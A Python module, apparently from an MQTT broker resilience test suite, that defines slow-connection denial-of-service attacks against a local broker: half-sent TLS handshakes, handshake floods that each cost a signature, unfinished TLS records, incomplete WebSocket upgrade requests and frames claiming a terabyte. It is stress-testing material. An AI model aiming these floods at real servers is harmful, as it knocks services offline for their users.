"""Attacks on what comes before MQTT: handshakes of TLS, requests for WebSocket, records and frames that are never finished.

The honest pair is connected without TLS.
"""

import ssl
import struct

import packets
from attacks import KIB, MIB, NOISE, attack
from crowd import CLOSE, DEAF, Pause

RECORD = 16 * KIB
BUFFERS = 64 * KIB
REQUEST = (
    b"GET /mqtt HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: mqtt\r\n"
)
LONG = 60
"""More seconds than the broker waits for a CONNECT."""


def client_hello():
    """The first bytes of a client, to which the broker answers with a signature."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    sent = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return sent.read()


def frame(contents, claimed=None):
    """A binary frame, masked with zeros, that claims so many bytes."""
    length = claimed or len(contents)
    if length < 126:
        header = struct.pack(">BB", 0x82, 0x80 | length)
    else:
        # The shortest form of a length is a must; no other attack has one in between.
        assert length > 0xFFFF
        header = struct.pack(">BBQ", 0x82, 0xFF, length)
    return header + bytes(4) + contents


@attack(
    "handshakes",
    "2,000 handshakes that are not finished, and 500 new ones a second that cost a signature each",
    short=True,
    transports=("tls",),
)
def handshakes(arena):
    hello = client_hello()

    def unfinished(number):
        yield DEAF
        yield hello[: len(hello) // 2]
        yield Pause(LONG)

    def begun(number):
        yield DEAF
        yield hello
        yield Pause(1)
        yield CLOSE

    arena.crowd(unfinished, at_once=arena.scaled(2000), to=arena.over["tls"])
    arena.crowd(begun, at_once=500, to=arena.over["tls"])


@attack("unfinished-records", "2,000 clients leave a record of TLS of 16 KiB unfinished, and come again when thrown out", transports=("tls",))
def unfinished_records(arena):
    # A part of a message of the handshake that is as long as a record can be.
    record = b"\x16\x03\x01" + struct.pack(">H", RECORD) + b"\x01\0\xff\xff" + NOISE[: RECORD - 5]

    def client(number):
        yield record
        yield Pause(LONG)

    arena.crowd(client, at_once=arena.scaled(2000), to=arena.over["tls"], buffers=BUFFERS)


@attack("unfinished-requests", "2,000 requests for WebSocket of almost 8 KiB that are not finished", transports=("ws",))
def unfinished_requests(arena):
    request = REQUEST + b"X: " + b"x" * (8 * KIB - len(REQUEST) - 10)

    def client(number):
        yield request
        yield Pause(LONG)

    arena.crowd(client, at_once=arena.scaled(2000), to=arena.over["ws"], buffers=BUFFERS)


@attack(
    "unfinished-frames",
    "1,000 clients leave a frame of WebSocket unfinished that claims a terabyte, with most of a PUBLISH of 1 MiB in it",
    transports=("ws",),
)
def unfinished_frames(arena):
    publish = packets.publish("unfinished", NOISE[:MIB], 1, 1)[:-1]

    def client(number):
        yield DEAF
        yield REQUEST + b"\r\n" + frame(packets.connect(f"frames-{number}"))
        yield frame(publish, claimed=1 << 40)

    arena.crowd(client, arena.scaled(1000), to=arena.over["ws"], buffers=BUFFERS)
